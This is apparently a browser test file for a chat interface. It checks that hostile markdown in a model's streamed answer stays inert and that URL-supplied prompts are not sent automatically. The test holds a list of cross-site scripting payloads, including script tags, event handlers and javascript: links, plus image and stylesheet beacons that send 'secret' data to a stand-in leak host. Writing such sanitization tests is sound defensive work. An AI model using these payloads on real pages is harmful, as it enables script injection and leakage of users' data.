/** What a model says is text: nothing in it runs, and nothing in it makes the page ask another host. */
import { answerFrames } from '#test/upstream/index.ts';
import { ask, expect, test, useModel } from './support.ts';

const HOSTILE = [
  '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>',
  '<svg onload="window.__pwned=1"></svg><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '[a](javascript:window.__pwned=1) [b](jav&#x09;ascript:window.__pwned=1) [c](data:text/html,x)',
  '<javascript:window.__pwned=1>',
  '![leak](https://leak.invalid/x?d=secret) [![in](https://leak.invalid/y)](https://leak.invalid/z)',
  '```"><script>window.__pwned=1</script>\ncode\n```',
  '<style>@import url(https://leak.invalid/s.css);</style><base href="https://leak.invalid/">',
  '| a | b |\n|---|---|\n| <b onclick=x>1</b> | ![t](//leak.invalid/t.png) |',
].join('\n\n');

test('hostile markdown is inert', async ({ page, server, upstream }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== server.url) foreign.push(request.url());
  });
  page.on('dialog', () => foreign.push('dialog'));
  upstream.script('hostile', {
    headers: { 'content-type': 'text/event-stream' },
    // Cut into small pieces, so that every tag and address is torn apart on its way.
    steps: answerFrames(HOSTILE.match(/[\s\S]{1,7}/g) ?? []).map((frame) => ({ send: frame })),
  });
  await useModel(server, upstream, 'hostile');
  await page.goto('/chat/');
  await ask(page, 'Go on.');
  const answer = page.getByRole('article').last();
  await expect(answer.getByRole('table')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Stop' })).toBeHidden();
  expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  expect(foreign).toEqual([]);
  for (const link of await answer.getByRole('link').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:|#|\/)/);
  }
  expect(await answer.locator('script, iframe, style, base, object').count()).toBe(0);
});

test('a prompt in the address is filled in, not sent', async ({ page }) => {
  await page.goto('/chat/share?prompt=%3Cimg%20src%3Dx%3E%20hello&submit=1');
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('<img src=x> hello');
  await expect(page.getByRole('article')).toHaveCount(0);
});
